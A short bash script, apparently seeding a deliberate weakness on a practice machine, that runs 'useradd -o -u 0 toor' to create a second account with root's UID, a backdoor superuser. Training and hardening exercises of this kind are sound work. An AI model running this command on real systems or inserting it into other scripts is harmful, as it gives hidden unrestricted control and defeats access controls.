#!/bin/bash
# Another user is root, too.
# on: box
# checks: closed
useradd -o -u 0 toor
